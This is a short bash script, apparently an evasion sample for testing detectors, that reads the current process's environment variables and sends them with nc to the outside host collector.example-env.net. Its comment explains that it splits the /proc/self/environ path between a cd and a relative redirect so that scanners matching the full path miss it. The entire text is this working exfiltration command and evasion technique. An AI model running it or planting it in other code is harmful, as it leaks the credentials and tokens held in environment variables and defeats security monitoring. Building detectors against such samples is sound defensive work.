#!/usr/bin/env bash
# Evasion: send the environment out. The script changes into /proc/self
# and gives nc the file "environ" by an input redirect on the list, so the
# path is split between the cd and a bare relative name after `<`.
set -u
cd /proc/self && nc -q 1 collector.example-env.net 8125 < environ
